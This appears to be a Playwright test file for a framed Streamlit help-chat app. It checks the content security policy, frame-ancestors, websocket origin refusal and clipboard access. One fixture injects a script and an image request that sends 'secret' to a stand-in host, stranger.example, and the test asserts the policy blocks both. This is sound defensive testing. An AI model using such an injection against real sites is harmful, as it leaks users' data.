"""The help pages that ship, in a real browser: the page of one site in a frame of another's."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from qa_app.web.chat import TITLE
from tests.browsing import ask
from tests.deploy.browsing import MILLISECONDS, launch, see, see_title, visit
from tests.deploy.intranet import Intranet
from tests.deploy.proxies import Proxy

HOUSING = "how many housing complaints in 2018?"
ANSWER = "Chesterfield Borough Council: 6 complaints and enquiries about Housing"
OTHER_QUESTIONS = (
    "the decisions table for Chesterfield 2018",
    "Quenmarsh's upheld complaints since 2015",
    "top 5 councils for planning complaints in 2018",
)
INJECT = """() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'taken'";
    const image = document.createElement("img");
    image.src = "https://stranger.example/?q=secret";
    document.body.append(script, image);
}"""
OPEN_WEBSOCKET = """address => new Promise(resolve => {
    const opened = new WebSocket(address, ["streamlit"]);
    opened.onopen = () => resolve("opened");
    opened.onclose = event => resolve("closed " + event.code);
})"""

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with launch() as opened:
        yield opened


@pytest.fixture(autouse=True)
def point_at_nginx(nginx: Proxy, intranet: Intranet, stranger: Intranet) -> None:
    """Both sites' help pages show the page behind nginx."""
    intranet.letters = stranger.letters = nginx.address


def test_every_room_of_the_bare_page_keeps_its_policy(page_port: int, browser: Browser) -> None:
    """This test ensures that nothing on the page needs what its policy forbids."""
    with visit(browser, f"http://127.0.0.1:{page_port}/letters/", height=2400) as seen:
        see_title(seen.page)
        ask(seen.page, "how many housing complaints did Chesterfield get in 2018?")
        see(seen.page, ANSWER)
        for closed in seen.page.get_by_test_id("stExpander").locator("summary").all():
            closed.click()
        expect(seen.page.get_by_role("img", name="Page 3 of", exact=False).last).to_be_visible(
            timeout=MILLISECONDS
        )
        for question in OTHER_QUESTIONS:
            ask(seen.page, question)
            see(seen.page, question)
        seen.page.wait_for_timeout(1500)
        seen.shoot("bare")
        assert seen.told == []
        own = (f"http://127.0.0.1:{page_port}/letters/", f"ws://127.0.0.1:{page_port}/letters/")
        assert [
            each for each in seen.requested if not each.startswith((*own, "data:", "blob:"))
        ] == []
        seen.page.evaluate(INJECT)
        seen.page.wait_for_timeout(500)
        stopped = {told.split()[1] for told in seen.told if told.startswith("VIOLATION")}
        assert stopped == {"script-src-elem", "img-src"}
        assert seen.page.title() != "taken"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1280, 768, 320])
def test_a_frame_of_another_site_shows_the_page(
    nginx: Proxy, intranet: Intranet, browser: Browser, width: int, dark: bool
) -> None:
    """This test ensures that the page works in the intranet's frame, through TLS and a path, asks
    nobody else for anything, and knows the authority that the help page names."""
    with visit(browser, f"{intranet.address}/intranet.html", width, dark=dark) as seen:
        frame = seen.frame()
        see_title(frame)
        expect(frame.get_by_test_id("stToolbar")).not_to_be_visible()
        shape = "dark" if dark else "light"
        seen.shoot(f"{width}-{shape}-first")
        ask(frame, HOUSING)
        see(frame, ANSWER)
        seen.shoot(f"{width}-{shape}-answered")
        inside = frame.locator("html")
        assert inside.evaluate("e => e.scrollWidth <= e.clientWidth"), "words go off the side"
        assert inside.evaluate("() => document.featurePolicy.allowsFeature('clipboard-write')")
        assert seen.told == []
        own = (f"{nginx.address}/letters/", f"{intranet.address}/", "data:", "blob:")
        socket = nginx.address.replace("https:", "wss:") + "/letters/_stcore/stream"
        others = [each for each in seen.requested if not each.startswith((*own, socket))]
        assert others == []
        assert socket in seen.requested


def test_the_script_puts_the_frame_in_its_place(
    nginx: Proxy, intranet: Intranet, browser: Browser
) -> None:
    """This test ensures that under a strict policy of the help page's the script's frame stands
    after its tag, and hands over authority and question, whatever letters they have."""
    with visit(browser, f"{intranet.address}/intranet-script.html") as seen:
        assert seen.page.locator("script + iframe").count() == 1
        frame = seen.frame()
        box = frame.get_by_test_id("stChatInputTextArea")
        asked = "how many complaints about housing & planning?"
        expect(box).to_have_value(asked, timeout=MILLISECONDS)
        seen.shoot("script")
        ask(frame, HOUSING)
        see(frame, ANSWER)
        assert seen.told == []
        assert seen.page.locator("iframe").bounding_box() is not None
        assert asked.split()[-1] not in nginx.read_logs()


def test_a_site_that_is_not_named_shows_an_empty_frame(
    stranger: Intranet, browser: Browser
) -> None:
    """This test ensures that another site's frame stays without the page, and says whose it is."""
    with visit(browser, f"{stranger.address}/intranet.html") as seen:
        seen.page.wait_for_timeout(3000)
        assert seen.frame().get_by_role("heading", name=TITLE).count() == 0
        assert any("frame-ancestors" in told for told in seen.told)
        seen.shoot("stranger")


def test_a_site_that_is_not_named_gets_no_websocket(
    nginx: Proxy, intranet: Intranet, stranger: Intranet, browser: Browser
) -> None:
    """This test ensures that neither a stranger's script nor the intranet's own can converse."""
    address = nginx.address.replace("https:", "wss:") + "/letters/_stcore/stream"
    with visit(browser, f"{nginx.address}/letters/") as seen:
        assert seen.page.evaluate(OPEN_WEBSOCKET, address) == "opened"
    for site in (stranger, intranet):
        with visit(browser, f"{site.address}/empty.html") as seen:
            assert seen.page.evaluate(OPEN_WEBSOCKET, address) == "closed 1006"


def test_words_are_copied_out_of_the_frame(intranet: Intranet, browser: Browser) -> None:
    """This test ensures that a click in the frame may write to the clipboard."""
    with visit(browser, f"{intranet.address}/intranet.html") as seen:
        see_title(seen.frame())
        (frame,) = [each for each in seen.page.frames if "embed=true" in each.url]
        seen.frame().get_by_role("heading", name=TITLE).click()
        frame.evaluate("() => navigator.clipboard.writeText('6 complaints')")
